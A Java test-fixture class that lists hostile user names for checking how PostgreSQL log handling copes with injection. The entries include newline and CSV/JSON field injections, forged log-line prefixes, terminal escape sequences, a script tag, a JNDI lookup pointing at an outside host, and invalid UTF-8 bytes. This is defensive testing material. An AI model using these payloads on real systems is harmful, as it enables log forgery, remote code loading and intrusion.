// SPDX-License-Identifier: Apache-2.0
package dev.postern.range;

import java.util.LinkedHashMap;
import java.util.Map;

/** Names that try to break a log, to forge a line in it or to reach a terminal. */
public final class HostileNames {
    private HostileNames() {}

    /** Names by what they attempt; none is longer than the 63 bytes that PostgreSQL keeps. */
    public static Map<String, String> texts() {
        Map<String, String> names = new LinkedHashMap<>();
        names.put("a line break", "x\ny");
        names.put("a carriage return", "x\ry");
        names.put("both line ends", "x\r\ny\r\nz");
        names.put("a tab", "x\ty");
        names.put("a bell and an escape", "\u0007\u001b]0;owned\u0007\u001b[2J");
        names.put("right to left", "\u202euser");
        names.put("commas and quotes", "a,'b',\"c\",");
        names.put("columns of a CSV file", "x\",\"y\",1,\"6.6.6.6:1\",");
        names.put("records of a CSV file", "x\"\n2026-11-22 08:00:00.000 UTC,\"postgres\",");
        names.put("members of a JSON object", "x\",\"user\":\"postgres\",\"pid\":1,\"y\":\"");
        names.put("a lone backslash", "x\\");
        names.put("markup", "<script>alert(1)</script>");
        names.put("a lookup", "${jndi:ldap://6.6.6.6/a}");
        names.put("the end of a message", "x\" ");
        names.put("a quoted quote", "\"\"");
        names.put("a host", "root@6.6.6.6");
        names.put("a record after PostgreSQL's default prefix", "x\n2026-11-22 08:00:00.000 UTC [42] LOG:  ");
        names.put("a message of another kind", "x LOG:  connection authorized: user=postgres");
        names.put("an RDS prefix", "x\n2026-11-22 08:00:00 UTC:6.6.6.6(4):postgres");
        return names;
    }

    /**
     * Names that are no UTF-8, by what is wrong with them. In a log they look like different ones, or a name that comes right after
     * another could be taken for its second try.
     */
    public static Map<String, byte[]> broken() {
        return Map.of(
                "bytes that are no UTF-8", new byte[] {'x', (byte) 0xff, (byte) 0xfe, 'y'},
                "an overlong slash", new byte[] {'o', (byte) 0xc0, (byte) 0xaf, 'y'},
                "half a character", new byte[] {'h', (byte) 0xe2, (byte) 0x82});
    }
}
